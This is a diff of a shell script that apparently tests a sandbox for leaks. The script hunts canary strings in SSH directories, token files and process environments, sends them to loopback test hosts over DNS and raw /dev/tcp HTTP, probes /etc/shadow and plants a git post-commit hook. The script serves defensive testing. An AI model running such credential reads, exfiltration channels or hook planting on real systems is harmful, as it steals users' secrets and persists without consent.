@@ -15,7 +15,7 @@ http=127.66.0.80 dns=127.66.0.53 zone=exfil.test
 # One by one: the key in the home, a token in the tree, the caller's environment, that of PID 1 and of the parent.
 canaries() {
         local f
-        for f in ~/.ssh/* ~root/.ssh/* /home/*/.ssh/* ./*.token /proc/self/environ /proc/1/environ /proc/$PPID/environ; do
+        for f in ~/.ssh/* ~root/.ssh/* /home/*/.ssh/* ./*.token /proc/{self,1,$PPID}/environ; do
                 [[ -r $f ]] && tr '\0' '\n' <"$f" | grep -ao 'CANARY-[0-9a-z-]*'
         done | sort -u
 }
@@ -31,8 +31,9 @@ by_dns() {
 }
 
 by_get() {
-        timeout 1 bash -c 'exec 3<>/dev/tcp/$1/80 && printf "GET /?%s HTTP/1.0\r\nHost: %s\r\n\r\n" "$2" "$1" >&3 && read -t 1 -u 3' - \
-                "$http" "$1"
+        # shellcheck disable=SC2016
+        timeout 1 bash -c 'exec 3<>/dev/tcp/$1/80 && printf "GET /?%s HTTP/1.0\r\nHost: %s\r\n\r\n" "$2" "$1" >&3 &&
+                read -t 1 -u 3' - "$http" "$1"
 }
 
 for c in $(canaries); do
@@ -44,6 +45,7 @@ head -c 1 /etc/shadow >/dev/null && by_get CANARY-shadow
 by_get CANARY-hello
 
 # What the user's own git would run, with the user's rights, on the next commit.
+# shellcheck disable=SC2016
 printf '#!/bin/sh\n: >"$(git rev-parse --git-dir)/hook-ran"\n' >.git/hooks/post-commit
 chmod +x .git/hooks/post-commit
 
